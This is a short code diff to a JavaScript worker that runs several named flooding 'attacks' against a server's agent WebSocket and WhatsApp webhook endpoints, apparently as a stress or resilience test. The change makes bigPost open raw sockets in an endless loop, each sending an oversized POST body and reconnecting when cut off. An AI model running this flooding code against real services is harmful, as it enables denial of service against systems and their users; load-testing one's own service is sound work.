@@ -22,6 +22,9 @@ const side = 10_000
 /** Milliseconds before a connection that was cut is tried again. */
 const pauseMs = 200
 
+/** Pings sent, sockets opened, posts begun, pictures asked for. */
+let done = 0
+
 /** @param {Order} order */
 const addressOf = ({ url, token, agentId }) =>
   `${url.replace('http', 'ws')}/api/v1/ws/agent/${agentId}/conversations?token=${encodeURIComponent(token)}`
@@ -83,15 +86,22 @@ async function slowPost({ url }, no) {
   }
 }
 
-/** @param {Order} order */
+const bigBody = Buffer.alloc(bigBytes, 0x20)
+
+/** @param {Order} order @returns {Promise<void>} sends as fast as it is taken, and again when it is hung up on */
 async function bigPost({ url }) {
-  const body = Buffer.alloc(bigBytes, 0x20)
+  const { hostname, port } = new URL(url)
+  const head = `POST /api/v1/channels/whatsapp/webhook HTTP/1.1\r\nhost: x\r\ncontent-length: ${bigBytes}\r\n\r\n`
   for (;;) {
+    const line = net.connect(Number(port), hostname)
+    line.on('error', () => undefined)
+    const closed = new Promise(resolve => line.once('close', resolve))
+    line.write(head)
+    line.write(bigBody)
+    line.resume()
     done += 1
-    await fetch(`${url}/api/v1/channels/whatsapp/webhook`, { method: 'POST', body })
-      .then(answer => answer.arrayBuffer())
-      // Hung up on in the middle of it.
-      .catch(() => sleep(pauseMs))
+    await closed
+    await sleep(pauseMs)
   }
 }
 
@@ -166,9 +176,6 @@ const attacks = {
   /** @param {Order} order */
   pictures: order => together(pictures, () => picture(order)),
 }
-
-/** Pings sent, sockets opened, posts begun, pictures asked for. */
-let done = 0
 
 process.once('message', order => {
   const { attack } = /** @type {Order} */ (order)
